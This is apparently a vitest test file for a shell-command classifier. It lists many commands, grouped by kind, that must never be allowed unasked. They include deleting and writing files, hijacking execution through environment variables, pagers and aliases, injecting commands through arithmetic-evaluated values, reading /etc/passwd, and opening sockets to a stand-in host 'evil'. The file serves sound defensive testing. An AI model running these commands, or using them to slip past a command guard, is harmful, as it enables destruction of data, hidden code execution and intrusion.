import { describe, expect, it } from "vitest";
import { classifyCommand } from "./index.ts";

// One command a line; every one changes something, runs something, or cannot be read. None may be allowed unasked.
const HOSTILE: Readonly<Record<string, string>> = {
  "find that deletes, runs or writes": String.raw`
find . -delete
find . -name x \-delete
find . -name x '-delete'
find . -name x $'\x2ddelete'
find . -name x -"delete"
find . -exec rm {} \;
find . -execdir cat {} \;
find . -ok rm {} \;
find . -exec sh -c 'rm x' \;
find . -exec grep x {} \; -delete
find . -fprint out
find . -fprintf out %p
find . -fls out
find . -name *x -type f
find $(echo -delete)
find . "$X"
find $X
find -files0-from x`,
  "sort, uniq and others with an operand or option that writes": String.raw`
sort -o x y
sort -ox y
sort y -o x
sort y -uo x
sort --output=x y
sort --outp=x y
sort --compress-program=sh y
sort --compress-prog=sh y
sort -T. --co=sh y
sort *
sort -{o,x} y
uniq a b
uniq -- a b
uniq *
shuf -o x y
xxd a b
xxd -r a b
tree -o x
tree -R -H . -L 1
file -C -m x
file -f x
date -s x
date 01010101
hostname x
gofmt -w x
jq 'import "x" as y; 1' f
tar xf a
tar -xf a
tar -tf a --to-command=sh
tar -tf host:a
tar -tf a -I sh
tee x
echo a | tee x
ss -K dst 1
umask 0
umask 022; ls`,
  "ripgrep and fd that run programs": String.raw`
rg --pre sh x
rg --pre=sh x
rg x -r y --pre z
rg -z x
rg -nz x
rg --search-zip x
rg --hostname-bin=x y
rg x *
fd -x rm
fd -X rm
fd . -x rm
fd --exec rm`,
  "sed scripts that write, run or read": String.raw`
sed 's/a/b/w out' x
sed 's/a/b/e' x
sed 's/a/b/;w F' x
sed 's,a,b,gw F' x
sed 'w out' x
sed -n '1w out' x
sed -n '$w out' x
sed '1e rm x' x
sed e x
sed r/etc/passwd x
sed -n 1p '-ew F'
sed -n 1p -ewF x
sed --expression='w F' x
sed -f script x
sed --file=script x
sed '$!{$!N;w F' x
sed 'y/a/b/;e' x
sed 's/[/]/x/w F' x
sed "s/x/$Y/" f
sed -i s/a/b/ x`,
  "awk programs that write, run or read": String.raw`
awk 'BEGIN{system("rm x")}'
awk '{print > "f"}' x
awk '{print $1 >$2}' x
awk '{printf "%s", $1 >> "f"}' x
awk '{print | "sh"}' x
awk '{"date"|getline d}' x
awk 'BEGIN { if (1) / "a/ ; print > "f" ; # " }' x
awk 'BEGIN { print 1 / 2 > "f" }'
awk '@load "filefuncs"; 1' x
awk -i inplace '1' x
awk -f p.awk x
awk "$P" x
gawk -l filefuncs 1
gawk -o/tmp/x 1
gawk --source 'BEGIN{system("x")}'
mawk -W exec x`,
  "git that writes, or runs what a configuration names": String.raw`
git -c core.pager=sh log
git -c alias.x=!sh x
git --exec-path=. status
git --git-dir=x status
git --work-tree=x status
git branch -D x
git branch x
git branch -m a b
git branch -v x
git branch -av x
git tag x
git tag -d x
git stash
git stash pop
git stash -p
git stash list --output=x
git diff --output=x
git diff --outpu=x
git diff --ext-diff
git diff --no-index --ext-diff a b
git diff --no-index --output=x a b
git log --output=x
git log --textconv
git show --textconv
git log -O x
git log --format=%GG
git log --pretty=format:%G?
git log "--pretty=$F"
git log --show-signature
git grep -Oless x
git grep --open-files-in-pager=sh x
git config user.name x
git config --global core.pager sh
git config --unset x
git config -e
git config set a.b c
git remote add a b
git remote show origin
git reflog expire --all
git reflog delete x
git worktree add x
git fetch
git ls-remote
git submodule foreach rm x
git cat-file --textconv HEAD:x
git cat-file --filters HEAD:x
git cat-file --batch-command
git blame --contents=x y
git symbolic-ref HEAD refs/heads/x
git symbolic-ref -d HEAD
git bisect run sh
git bisect start
git notes add -m x
git archive HEAD
git difftool
git help -w log
git status $X
git -C "$X" status
git $X
git -C x commit`,
  "variables that decide what runs": String.raw`
GIT_PAGER=sh git log
GIT_EXTERNAL_DIFF=sh git diff
GIT_SSH_COMMAND=x git status
PATH=.:$PATH ls
PATH=.; ls
export PATH=.:$PATH; ls
readonly PATH=.; ls
declare -x PATH=.; ls
PATH+=:. && ls
LD_PRELOAD=./x.so ls
BASH_ENV=x ls
IFS=x; ls
RIPGREP_CONFIG_PATH=x rg y
NODE_OPTIONS=--require=./x node --version
LANGUAGE=../../x ls
LC_ALL=$X ls
HOME=/tmp/x git status
GREP_OPTIONS=x grep y
PAGER=x git log
env PATH=. ls
env -i PATH=. ls
env LD_PRELOAD=x ls
env -S 'ls -la'
read PATH; ls
for PATH in .; do ls; done
unset PATH; ls
printf -v PATH .; ls
f() { local PATH=.; ls; }; f`,
  "data that the shell evaluates": String.raw`
[[ 'a[$(rm x)]' -eq 0 ]]
[[ -v 'a[$(rm x)]' ]]
read x; [[ $x -eq 0 ]]
read x; echo $((x))
x=$(cat f); echo $((x+1))
x='a[$(id)]'; echo $((x))
x='a[$(id)]'; [[ $x -gt 1 ]]
x='a[$(id)]'; echo $((1 + x))
y='a[$(id)]'; echo ${"${x:y}"}
x='a[$(id)]'; (( x ))
x='a[$(id)]'; for ((i=x;i<1;i++)); do :; done
x='a[$(id)]'; echo ${"${a[x]}"}
test -v 'a[$(rm x)]'
[ -v 'a[$(rm x)]' ]
[ "$a" "$b" ]
[ "$a" "$b" "$c" "$d" ]
printf -v 'a[$(rm x)]' x
printf -vx y
printf "$x" y
printf %n PATH
printf '%-5n' PATH
read 'a[$(rm x)]'
declare -i x='a[$(rm x)]'
declare 'a[$(rm x)]=1'
local -n x=y
typeset -i x
export 'a[$(rm x)]'
unset 'a[$(rm x)]'
let 'a[$(rm x)]'
mapfile -C 'rm x' -c 1 a
readarray -C 'rm x' a
echo ${"${x@P}"}
echo ${"${!x}"}
trap 'rm x' EXIT
eval 'ls'
eval "$x"
alias ls='rm x'
source x
. ./x; ls
enable -f x.so y
hash -p /tmp/x ls; ls
shopt -s expand_aliases
shopt -s extglob
complete -C 'rm x' y
bind -x '"a": rm x'
exec 3<>/dev/tcp/evil/80
cat < /dev/tcp/evil/80
echo x > /dev/udp/evil/53`,
};

const lines = (text: string): string[] => text.split("\n").filter((line) => line !== "");

describe("nothing hostile is allowed unasked", () => {
  it.each(Object.keys(HOSTILE))("G07 %s", (kind) => {
    const allowed = lines(HOSTILE[kind]!).filter((command) => classifyCommand(command) === "allow");
    expect(allowed).toEqual([]);
  });
});
